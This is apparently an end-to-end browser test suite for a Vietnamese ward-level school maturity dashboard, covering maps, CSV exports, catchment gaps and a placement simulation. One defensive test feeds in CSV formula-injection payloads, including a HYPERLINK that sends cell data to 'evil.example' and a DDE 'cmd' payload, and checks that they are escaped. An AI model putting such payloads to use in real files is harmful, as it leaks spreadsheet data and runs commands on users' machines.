// The ward dashboard in headless Chromium: the choropleth on the map carries the API's figures and changes
// with the metric and the year; the CSV export is UTF-8 with a BOM and parses back to the same figures; a ward's
// detail lists its schools.
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { SHOTS, clickMapAt, mapIdle, useBrowser } from './browser-support.ts';
import { gql } from './support.ts';

const b = useBrowser();
const WARD = '26740';
const state = (page: import('playwright-core').Page, code: string) =>
  page.evaluate((id) => (window.__edugisMap as unknown as { getFeatureState(f: object): { value?: number | null } }).getFeatureState({ source: 'wards', sourceLayer: 'wards', id }).value, code);
async function api(year: string) {
  const { body } = await gql(b.url, `{ maturityByUnit(schoolYear: "${year}", parentCode: "79") { unit { code fullName } schoolCount publishedCount digitalSchoolShare meanGroup1Score overall { level1 level2 level3 } } }`);
  return new Map((body.data.maturityByUnit as any[]).map((r) => [r.unit.code, r]));
}

/** A new page with the dashboard open on HCMC's 168 wards. */
async function openDashboard() {
  const page = await b.newPage({ acceptDownloads: true });
  await page.goto(b.url);
  await mapIdle(page);
  await page.getByTestId('dash-open').click();
  const rows = page.locator('[data-testid=dash-table] tbody tr');
  await expect.poll(() => rows.count(), { timeout: 20_000 }).toBe(168);
  return { page, rows };
}

describe('the ward maturity dashboard', () => {
  it('draws the chosen metric by ward, follows metric and year, exports CSV and opens a ward', async () => {
    const { page, rows } = await openDashboard();
    await page.waitForSelector('[data-testid=map][data-choropleth="168"]');
    await mapIdle(page);

    const latest = await api('2025-2026');
    expect(await state(page, WARD)).toBeCloseTo(latest.get(WARD).digitalSchoolShare, 6);
    const painted = await page.evaluate(() => (window.__edugisMap as unknown as { queryRenderedFeatures(o: object): unknown[] }).queryRenderedFeatures({ layers: ['wards-choropleth'] }).length);
    expect(painted).toBeGreaterThan(20);
    expect(await page.getByTestId('dash-legend').innerText()).toMatch(/< 20 %[\s\S]*≥ 80 %[\s\S]*Ít dữ liệu/);
    await page.screenshot({ path: `${SHOTS}/dashboard.png` });

    await page.getByTestId('dash-metric').selectOption('meanGroup1Score');
    await expect.poll(() => state(page, WARD)).toBe(latest.get(WARD).meanGroup1Score);
    expect(await page.getByTestId('dash-legend').innerText()).toMatch(/< 40\.0[\s\S]*62\.5 – 75\.0/);
    const early = await api('2022-2023');
    await page.getByTestId('dash-year').selectOption('2022-2023');
    await expect.poll(() => state(page, WARD)).toBe(early.get(WARD).meanGroup1Score);
    expect(early.get(WARD).meanGroup1Score).not.toBe(latest.get(WARD).meanGroup1Score);

    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-csv').click()]);
    const bytes = readFileSync((await download.path())!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const records = parse(bytes, { bom: true, columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(168);
    const mine = records.find((r) => r['Mã'] === WARD)!;
    expect(mine['Tên']).toBe(early.get(WARD).unit.fullName);
    expect(Number(mine['Điểm TB dạy học'])).toBe(early.get(WARD).meanGroup1Score);
    expect([mine['Mức 1'], mine['Mức 2'], mine['Mức 3']].map(Number)).toEqual([early.get(WARD).overall.level1, early.get(WARD).overall.level2, early.get(WARD).overall.level3]);

    // Reach: the share of each ward within 1 km of a primary school, from the coverage query, and the areas out of reach.
    await page.getByTestId('dash-metric').selectOption('schoolReach');
    const cov = await gql(b.url, `{ coverage(provinceCode: "79", level: PRIMARY, distanceMeters: 1000) { unit { code } coveredShare } }`);
    const reach = new Map((cov.body.data.coverage as any[]).map((r) => [r.unit.code, r.coveredShare]));
    await expect.poll(() => state(page, WARD), { timeout: 20_000 }).toBe(reach.get(WARD));
    const [out] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-uncovered').click()]);
    const fc = JSON.parse(readFileSync((await out.path())!, 'utf8'));
    expect(fc.features).toHaveLength(168);
    expect(fc.features.find((f: any) => f.properties.code === WARD).properties).toMatchObject({ level: 'PRIMARY', distanceMeters: 1000 });
    // Zone gaps: a ward whose grade-1 zone of one school is removed has that much area in no zone; the map shows the
    // share, and the gaps and overlaps download as GeoJSON.
    const zy = (await gql(b.url, `{ catchmentYears }`)).body.data.catchmentYears as string[];
    const newest = zy.at(-1)!;
    await b.ctx.db.raw.query(`DELETE FROM enrollment_zone WHERE id = (SELECT z.id FROM enrollment_zone z JOIN school s ON s.id = z.school_id
      JOIN admin_unit w ON w.id = s.ward_id WHERE w.code = $1 AND w.valid_to IS NULL AND z.school_year = $2 AND z.entry_grade = 1 ORDER BY z.id LIMIT 1)`, [WARD, newest]);
    await page.getByTestId('dash-metric').selectOption('zoneGaps');
    const cq = (await gql(b.url, `{ catchmentQuality(provinceCode: "79", schoolYear: "${newest}", entryGrade: 1) { gaps { unit { code } areaKm2 wardAreaKm2 } overlaps { schoolIds } } }`)).body.data.catchmentQuality;
    const gap = cq.gaps.find((g: any) => g.unit.code === WARD);
    expect(gap.areaKm2).toBeGreaterThan(0.01);
    await expect.poll(() => state(page, WARD), { timeout: 20_000 }).toBeCloseTo(gap.areaKm2 / gap.wardAreaKm2, 6);
    const whole = (await api('2025-2026'));
    const zoned = [...whole.keys()].find((c) => !cq.gaps.some((g: any) => g.unit.code === c))!;
    expect(await state(page, zoned)).toBe(0);
    expect(await page.getByTestId('dash-gaps-hint').innerText()).toContain(`${cq.gaps.length} phường/xã có vùng trống`);
    const [zp] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-zone-problems').click()]);
    const zfc = JSON.parse(readFileSync((await zp.path())!, 'utf8'));
    expect(zfc.features).toHaveLength(cq.gaps.length + cq.overlaps.length);
    expect(zfc.features.find((f: any) => f.properties.kind === 'gap' && f.properties.code === WARD).properties).toMatchObject({ entryGrade: 1, schoolYear: newest });
    await page.screenshot({ path: `${SHOTS}/dashboard-zone-gaps.png` });
    await page.getByTestId('dash-metric').selectOption('meanGroup1Score');

    // Compare three wards: this year's figures side by side, and one small chart per school year.
    const three = [WARD, '26743', '26737'];
    for (const c of three) await page.locator(`[data-testid=dash-table] tr[data-code="${c}"] input[type=checkbox]`).check();
    await page.getByTestId('dash-compare').click();
    const table = page.getByTestId('dash-compare-table');
    await expect.poll(() => table.locator('thead th').count(), { timeout: 10_000 }).toBe(4);
    // Columns in code order; the table shows the newest school year.
    const sorted = [...three].sort();
    const cells = async (i: number) => table.locator('tbody tr').nth(i).locator('td').allInnerTexts();
    expect(await cells(0)).toEqual(sorted.map((c) => `${latest.get(c).publishedCount}/${latest.get(c).schoolCount}`));
    expect(await cells(4)).toEqual(sorted.map((c) => `${Math.round(latest.get(c).digitalSchoolShare * 100)} %`));
    await expect.poll(() => page.locator('.dash-small canvas').count()).toBe(4);
    await page.screenshot({ path: `${SHOTS}/dashboard-compare.png` });
    await page.getByTestId('dash-compare-view').getByRole('button').first().click();
    await page.locator(`[data-testid=dash-table] tr[data-code="${WARD}"] button`).click();
    const [{ n }] = await b.ctx.db.raw.query<{ n: number }>(`SELECT count(*)::int n FROM school s JOIN admin_unit w ON w.id = s.ward_id WHERE w.code = $1 AND w.valid_to IS NULL`, [WARD]);
    await expect.poll(() => page.locator('[data-testid=dash-ward-schools] li').count(), { timeout: 10_000 }).toBe(n);
    // The seeded results carry group scores only, and the panel says so rather than showing an empty list.
    expect(await page.getByTestId('dash-unmet').innerText()).toMatch(/Chưa có kết quả nào được chấm chi tiết/);
    await page.screenshot({ path: `${SHOTS}/dashboard-ward.png` });
    // The printable summary: the ward alone (no map, no header), on one A4 page.
    expect(await page.getByTestId('dash-ward-facts').innerText()).toMatch(/Tỉ lệ trường học số\s+\d+ %/);
    await page.emulateMedia({ media: 'print' });
    expect(await page.locator('[data-testid=map]').isVisible()).toBe(false);
    const pdf = (await page.pdf({ format: 'A4', printBackground: true })).toString('latin1');
    expect(pdf.match(/\/Type\s*\/Page\b(?!s)/g)).toHaveLength(1);
    await page.context().close();
  });

  it('shows a year on the districts of that time, switches province, and lets ward staff include their ward\'s results in progress', async () => {
    const q = <T>(text: string, params: unknown[] = []) => b.ctx.db.raw.query<T>(text, params);
    // A correction under review in the demo ward (a Mức 1 result re-scored 96/96), and one school with a published
    // result in the first Hanoi ward (the default seed has schools in HCMC only).
    const [{ id: corrected }] = await q<{ id: string }>(`SELECT a.id FROM maturity_assessment a JOIN school s ON s.id = a.school_id JOIN admin_unit w ON w.id = s.ward_id
      WHERE w.code = $1 AND w.valid_to IS NULL AND a.school_year = '2025-2026' AND a.status = 'PUBLISHED' AND a.overall_level = 'LEVEL_1' ORDER BY a.id LIMIT 1`, [WARD]) as [{ id: string }];
    await q(`INSERT INTO maturity_assessment (id, school_id, school_year, revision, corrects_id, index_version, status, group1_score, group2_score,
        group1_level, group2_level, overall_level, is_synthetic, source_id)
      SELECT id || '-draft', school_id, school_year, revision + 1, id, index_version, 'UNDER_REVIEW', 96, 96, 'LEVEL_3', 'LEVEL_3', 'LEVEL_3', true, source_id
      FROM maturity_assessment WHERE id = $1`, [corrected]);
    const [hn] = await q<{ id: string; code: string }>(`SELECT id, code FROM admin_unit WHERE level = 'WARD' AND valid_to IS NULL AND province_code = '01' AND boundary IS NOT NULL ORDER BY code LIMIT 1`);
    const [{ n: hanoiWards }] = await q<{ n: number }>(`SELECT count(*)::int n FROM admin_unit WHERE level = 'WARD' AND valid_to IS NULL AND province_code = '01'`) as [{ n: number }];
    await q(`INSERT INTO school (id, name, levels, ownership, location, ward_id, location_confidence, is_synthetic, source_id)
      SELECT 'hn-test', 'Trường thử Hà Nội', '{PRIMARY}', 'PUBLIC', ST_PointOnSurface(boundary), id, 'SYNTHETIC', true, 'edugis-synthetic' FROM admin_unit WHERE id = $1`, [hn!.id]);
    await q(`INSERT INTO maturity_assessment (id, school_id, school_year, index_version, status, group1_score, group2_score, group1_level, group2_level, overall_level, is_synthetic, source_id)
      SELECT 'hn-test-2025', 'hn-test', '2025-2026', index_version, 'PUBLISHED', 60, 60, 'LEVEL_2', 'LEVEL_2', 'LEVEL_2', true, 'edugis-synthetic' FROM maturity_assessment WHERE id = $1`, [corrected]);

    const latestShare = (await api('2025-2026')).get(WARD).digitalSchoolShare;
    const { page, rows } = await openDashboard();
    expect(await page.getByTestId('dash-drafts').count()).toBe(0); // anonymous: published results only

    // A year before the reform on the districts of that time: a table (they have no boundaries: the map is cleared).
    await page.getByTestId('dash-year').selectOption('2023-2024');
    await page.getByTestId('dash-former').check();
    const formerRows = page.locator('[data-testid=dash-former-table] tbody tr');
    await expect.poll(() => formerRows.count(), { timeout: 20_000 }).toBeGreaterThan(20);
    await page.waitForSelector('[data-testid=map][data-choropleth=""]');
    const fu = (await gql(b.url, `{ maturityByFormerUnit(schoolYear: "2023-2024", provinceCode: "79") { units { unit { code } schoolCount publishedCount } unattributed { schoolCount } } }`)).body.data.maturityByFormerUnit;
    const q1 = fu.units.find((u: any) => u.unit.code === '760');
    expect(await page.locator('[data-testid=dash-former-table] tr[data-code="760"] td').nth(1).innerText()).toBe(`${q1.publishedCount}/${q1.schoolCount}`);
    expect(await formerRows.last().innerText()).toMatch(/Không xác định được quận\/huyện cũ/);
    expect(await page.getByTestId('dash-former-note').innerText()).toContain(`${fu.unattributed.schoolCount} trường`);
    await page.getByTestId('dash-former').uncheck();
    await page.waitForSelector('[data-testid=map][data-choropleth="168"]');

    // Another province: its wards, its title, its figures on the map.
    await page.getByTestId('dash-province').selectOption('01');
    await expect.poll(() => rows.count(), { timeout: 20_000 }).toBe(hanoiWards);
    expect(await page.locator('#dash-h').innerText()).toMatch(/Hà Nội/);
    await expect.poll(() => state(page, hn!.code), { timeout: 20_000 }).toBe(1); // its one result is at Mức 2: a digital school
    // The map now draws Hanoi's wards (its tiles are per province), not only the state set for them.
    const drawn = () => page.evaluate(() => (window.__edugisMap as unknown as { queryRenderedFeatures(o: object): { properties: { code: string } }[] })
      .queryRenderedFeatures({ layers: ['wards-choropleth'] }).map((f) => f.properties.code));
    await expect.poll(async () => (await drawn()).includes(hn!.code), { timeout: 20_000 }).toBe(true);
    expect((await drawn()).every((c) => !c.startsWith('26') && !c.startsWith('27'))).toBe(true); // no HCMC ward codes
    await page.getByTestId('dash-province').selectOption('79');
    await expect.poll(() => rows.count(), { timeout: 20_000 }).toBe(168);
    await expect.poll(async () => (await drawn()).includes(WARD), { timeout: 20_000 }).toBe(true);

    // Ward staff sign in, come back and ask for results in progress: their ward's draft counts, marked as internal.
    await page.getByTestId('ws-open').click();
    await page.getByTestId('ws-username').fill('demo.phuong');
    await page.getByTestId('ws-password').fill('edugis-demo');
    await page.getByTestId('ws-signin').click();
    await page.waitForSelector('[data-testid=ws-who]', { timeout: 15_000 });
    await page.keyboard.press('Escape');
    await page.getByTestId('dash-drafts').check();
    await page.waitForSelector('[data-testid=dash-drafts-notice]');
    // With drafts the newest year is the one being assessed now (${'$'}{current}); the draft here is last year's.
    await page.getByTestId('dash-year').selectOption('2025-2026');
    await expect.poll(() => page.getByTestId('dash-drafts-notice').innerText(), { timeout: 20_000 })
      .toMatch(/gồm 1 kết quả chưa công bố[\s\S]*Phường Sài Gòn[\s\S]*Không công khai/);
    const login = await gql(b.url, `mutation { login(username: "demo.phuong", password: "edugis-demo") { ... on MutationLoginSuccess { data { token } } } }`);
    const token = login.body.data.login.data.token as string;
    const withDrafts = await gql(b.url, `{ maturityByUnit(schoolYear: "2025-2026", parentCode: "79", includeDrafts: true) { unit { code } publishedCount draftCount digitalSchoolShare } }`, {}, 'vi', token);
    const mine = (withDrafts.body.data.maturityByUnit as any[]).find((r) => r.unit.code === WARD);
    expect(mine.draftCount).toBe(1);
    expect(mine.digitalSchoolShare).not.toBe(latestShare);
    await expect.poll(() => state(page, WARD), { timeout: 20_000 }).toBe(mine.digitalSchoolShare);
    const cells = await page.locator(`[data-testid=dash-table] tr[data-code="${WARD}"] td`).allInnerTexts();
    expect(cells[2]).toBe('1');
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-csv').click()]);
    expect(download.suggestedFilename()).toMatch(/gom-chua-cong-bo\.csv$/);
    const records = parse(readFileSync((await download.path())!), { bom: true, columns: true }) as Record<string, string>[];
    expect(records.find((r) => r['Mã'] === WARD)!['Chưa công bố']).toBe('1');
    await page.screenshot({ path: `${SHOTS}/dashboard-drafts.png` });
    await page.context().close();
  });

  it('writes cells a spreadsheet would run as a formula as text (a name starting with =, +, - or @)', async () => {
    // A ward renamed by a hostile or careless import: the CSV must not hand a spreadsheet a formula to run.
    const names = ['=HYPERLINK("https://evil.example/?x="&A1,"Phường")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
    const codes = (await b.ctx.db.raw.query<{ code: string }>(`SELECT code FROM admin_unit WHERE level = 'WARD' AND valid_to IS NULL AND province_code = '79' AND code <> $1 ORDER BY code LIMIT 4`, [WARD])).map((r) => r.code);
    const before = await b.ctx.db.raw.query<{ code: string; full_name: string }>(`SELECT code, full_name FROM admin_unit WHERE code = ANY ($1::text[]) AND valid_to IS NULL`, [codes]);
    try {
      for (const [i, code] of codes.entries()) await b.ctx.db.raw.query(`UPDATE admin_unit SET full_name = $1 WHERE code = $2 AND valid_to IS NULL`, [names[i], code]);
      const { page } = await openDashboard();
      const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('dash-csv').click()]);
      const records = parse(readFileSync((await download.path())!), { bom: true, columns: true }) as Record<string, string>[];
      for (const [i, code] of codes.entries()) expect(records.find((r) => r['Mã'] === code)!['Tên']).toBe(`'${names[i]}`);
      // Numbers stay numbers: a negative figure is not a formula.
      expect(records.every((r) => !String(r['Số trường']).startsWith("'"))).toBe(true);
    } finally {
      for (const r of before) await b.ctx.db.raw.query(`UPDATE admin_unit SET full_name = $1 WHERE code = $2 AND valid_to IS NULL`, [r.full_name, r.code]);
    }
  });

  it('lets a planner run the placement simulation: the rules as they are beside a scenario, and the difference', async () => {
    // Two THCS of Phường Sài Gòn publish grade-6 quotas of 100 and 80; Sài Gòn and Tân Định have 400 and 600
    // children of THCS age (100 and 150 entering): 250 children for 180 places.
    const sql = (text: string, params: unknown[] = []) => b.ctx.db.raw.query(text, params);
    await sql(`INSERT INTO data_source (id, title, licence, attribution) VALUES ('test-sim', 'Kế hoạch tuyển sinh (thử)', 'unknown', 'UBND (thử)') ON CONFLICT DO NOTHING`);
    await sql(`INSERT INTO admission_rule (school_id, school_year, grade, province_code, method, quota_places, source_id) VALUES
      ('syn-26740-lower_secondary-1', '2027-2028', 6, '79', 'NEAREST_BY_DISTANCE', 100, 'test-sim'),
      ('syn-26740-lower_secondary-2', '2027-2028', 6, '79', 'NEAREST_BY_DISTANCE', 80, 'test-sim')`);
    await sql(`INSERT INTO ward_demand (ward_id, level, school_year, children, source) VALUES
      ('26740@2025-07-01', 'LOWER_SECONDARY', '2027-2028', 400, 'thử'), ('26737@2025-07-01', 'LOWER_SECONDARY', '2027-2028', 600, 'thử')`);
    const { page } = await openDashboard();
    await page.getByTestId('dash-simulate').click();
    await expect.poll(() => page.getByTestId('sim-year').inputValue()).toBe('2027-2028');
    await page.getByTestId('sim-grade').selectOption('6');
    await page.getByTestId('sim-run').click();
    const totals = page.getByTestId('sim-totals');
    await expect.poll(() => totals.innerText(), { timeout: 20_000 }).toContain('Số trẻ\t250\t250');
    expect(await totals.innerText()).toContain('Được xếp chỗ\t180\t180');
    expect(await totals.innerText()).toContain('Chưa có chỗ\t70\t70');
    // The scenario: THCS Sài Gòn 2 takes 200 instead of 80; everyone is placed.
    await page.getByTestId('sim-quota-school').selectOption('syn-26740-lower_secondary-2');
    await page.getByTestId('sim-quota').fill('200');
    await page.getByTestId('sim-run').click();
    await expect.poll(() => totals.innerText(), { timeout: 20_000 }).toContain('Chưa có chỗ\t70\t0');
    expect(await totals.innerText()).toContain('Được xếp chỗ\t180\t250');
    const row = page.locator('[data-testid=sim-schools] tr[data-id="syn-26740-lower_secondary-2"]');
    expect(await row.innerText()).toMatch(/80\t80\t200\t\d+\t\+\d+/);
    expect(await page.getByTestId('dash-placement').innerText()).toContain('Số trẻ vào lớp 6 = số trẻ trong độ tuổi THCS đã nạp (2027-2028) ÷ 4 khối lớp.');
    expect(await page.getByTestId('dash-placement').innerText()).toContain('© OpenStreetMap contributors');
    // The scenario on the map: the school given more places is drawn as "more children placed".
    const simOnMap = () => page.evaluate(() => [...new Set(window.__edugisMap!.querySourceFeatures('sim')
      .filter((f) => f.properties.kind === 'school').map((f) => `${f.properties.id}:${f.properties.change}`))].sort());
    await expect.poll(simOnMap).toEqual(['syn-26740-lower_secondary-1:same', 'syn-26740-lower_secondary-2:more']);
    expect(await page.getByTestId('sim-legend').innerText()).toContain('Xếp thêm trẻ');
    await page.screenshot({ path: `${SHOTS}/placement.png` });

    // A planned school, placed with a click on the map, instead of the bigger quota: 100 more places, everyone placed.
    await page.getByTestId('sim-quota-school').selectOption('');
    await page.getByTestId('sim-add-pick').click();
    await expect.poll(() => page.getByTestId('map').getAttribute('data-picking')).toBe('1');
    await clickMapAt(page, 106.7, 10.776);
    await expect.poll(() => page.getByTestId('sim-add-at').innerText()).toMatch(/^Vị trí: 106\.\d+, 10\.\d+$/);
    await expect.poll(() => page.getByTestId('map').getAttribute('data-picking')).toBe(''); // one click, one school
    expect(await page.locator('[aria-label="Nơi ở đã chọn"]').count()).toBe(0); // the click placed the school, not a home
    await page.getByTestId('sim-add-name').fill('THCS Sài Gòn mới (dự kiến)');
    await page.getByTestId('sim-add-places').fill('100');
    await page.getByTestId('sim-run').click();
    await expect.poll(() => totals.innerText(), { timeout: 20_000 }).toContain('Được xếp chỗ\t180\t250');
    const planned = page.locator('[data-testid=sim-schools] tr[data-id="new-1"]');
    expect(await planned.innerText()).toMatch(/^THCS Sài Gòn mới \(dự kiến\) · dự kiến\t–\t–\t100\t(\d+)\t\+\d+$/);
    expect(Number(/\t100\t(\d+)/.exec(await planned.innerText())![1])).toBeGreaterThanOrEqual(70);
    await expect.poll(simOnMap).toContain('new-1:added');
    const [geo] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sim-geojson').click()]);
    expect(geo.suggestedFilename()).toBe('edugis-mo-phong-79-2027-2028-lop6.geojson');
    const fc = JSON.parse(readFileSync((await geo.path())!, 'utf8'));
    expect(fc.features.find((f: any) => f.properties.id === 'syn-26740-lower_secondary-1').properties).toMatchObject({ synthetic: true, childrenEstimated: false });
    expect(fc.features.find((f: any) => f.properties.code === '26737').properties).toMatchObject({ kind: 'ward', children: 150, unplacedBefore: expect.any(Number) });

    // Without loaded figures for the whole city, the 2019 census estimate, labelled as one in the panel and the files.
    await page.getByTestId('sim-demand').selectOption('CENSUS_2019');
    await page.getByTestId('sim-run').click();
    await expect.poll(() => page.getByTestId('sim-estimate').innerText(), { timeout: 30_000 }).toMatch(/^ƯỚC TÍNH: Số trẻ là ước tính từ điều tra dân số 2019/);
    expect(await page.getByTestId('sim-note').innerText()).toMatch(/^ƯỚC TÍNH, không phải số trẻ thật: số trẻ vào lớp 6/);
    const children = Number(/Số trẻ \(ƯỚC TÍNH\)\t(\d+)/.exec(await totals.innerText())![1]);
    expect(Math.abs(children - 544_876 / 5)).toBeLessThan(102); // old HCMC's 10–14-year-olds in 2019, a fifth of them
    expect(await page.locator('[data-testid=sim-wards] tbody tr').count()).toBeGreaterThan(90);
    const [csv] = await Promise.all([page.waitForEvent('download'), page.getByTestId('sim-csv').click()]);
    expect(csv.suggestedFilename()).toBe('edugis-mo-phong-79-2027-2028-lop6-uoc-tinh.csv');
    const table = parse(readFileSync((await csv.path())!, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(table[0]).toMatchObject({ 'Số trẻ ước tính': 'có', 'Dữ liệu mô phỏng': 'có' });
    await page.close();
  });
});
